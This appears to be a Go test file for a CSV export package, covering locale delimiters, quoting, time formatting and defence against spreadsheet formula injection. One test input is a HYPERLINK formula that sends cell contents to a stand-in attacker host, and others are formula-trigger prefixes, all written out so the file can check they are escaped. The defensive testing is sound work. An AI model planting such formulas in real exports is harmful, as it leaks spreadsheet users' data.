package sheet

import (
	"encoding/csv"
	"slices"
	"strings"
	"testing"
	"time"
)

func TestAFileIsOneThatSpreadsheetProgramsOpen(t *testing.T) {
	s := Sheet{Head: []string{"Nom", "Raison"}, Rows: [][]string{{"Léa \"Lou\" Dubois", "impôts; 2026, suite"}, {"", "deux\r\nlignes"}}}
	for _, c := range []struct{ name, lang, want string }{
		{"French has semicolons", "fr", "\ufeff\"Nom\";\"Raison\"\r\n\"Léa \"\"Lou\"\" Dubois\";\"impôts; 2026, suite\"\r\n\"\";\"deux lignes\"\r\n"},
		{"English has commas", "en", "\ufeff\"Nom\",\"Raison\"\r\n\"Léa \"\"Lou\"\" Dubois\",\"impôts; 2026, suite\"\r\n\"\",\"deux lignes\"\r\n"},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := s.Write(c.lang); got != c.want {
				t.Errorf("%q", got)
			}
		})
	}
}

func TestWhatOthersTypedIsNoFormula(t *testing.T) {
	for _, c := range []struct{ typed, cell string }{
		{`=HYPERLINK("https://evil.example/?"&A1,"voir")`, `'=HYPERLINK("https://evil.example/?"&A1,"voir")`},
		{"+1 418 555-0123", "'+1 418 555-0123"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r\n=1+1", "'=1+1"},
		{"\u00a0 =1+1", "'\u00a0 =1+1"},
		{"＝1+1", "'＝1+1"},
		{"\x00=1+1", "'=1+1"},
		{"impôts = 2026", "impôts = 2026"},
		{"—", "—"},
		{"'", "'"},
	} {
		got := strings.TrimSuffix((Sheet{Rows: [][]string{{c.typed}}}).Write("en"), "\r\n")
		got = strings.TrimPrefix(got, "\ufeff\r\n")
		if want := `"` + strings.ReplaceAll(c.cell, `"`, `""`) + `"`; got != want {
			t.Errorf("%q becomes %s, want %s", c.typed, got, want)
		}
	}
}

// FuzzCells reads back what was written: as many cells as there were, and none that begins as a formula.
func FuzzCells(f *testing.F) {
	f.Add("a", "=b", "fr")
	f.Add("\"", ";\n", "en")
	f.Fuzz(func(t *testing.T, a, b, lang string) {
		r := csv.NewReader(strings.NewReader(strings.TrimPrefix((Sheet{Head: []string{"1", "2"}, Rows: [][]string{{a, b}}}).Write(lang), "\ufeff")))
		if lang == "fr" {
			r.Comma = ';'
		}
		all, err := r.ReadAll()
		if err != nil || len(all) != 2 || len(all[1]) != 2 {
			t.Fatalf("%q, %v", all, err)
		}
		for i, typed := range []string{a, b} {
			if got := all[1][i]; isFormula(got) {
				t.Errorf("%q is a formula", got)
			} else if !strings.ContainsAny(typed, "\r\n\x00") && strings.TrimPrefix(got, "'") != strings.TrimPrefix(typed, "'") {
				t.Errorf("%q became %q", typed, got)
			}
		}
	})
}

func TestAMomentIsOneInEveryLanguage(t *testing.T) {
	at := time.Date(2026, time.November, 8, 9, 5, 59, 0, time.Local)
	if got := []string{Time(at), Time(at.UTC()), Time(time.Time{})}; !slices.Equal(got, []string{"2026-11-08 09:05", "2026-11-08 09:05", ""}) {
		t.Errorf("%q", got)
	}
}
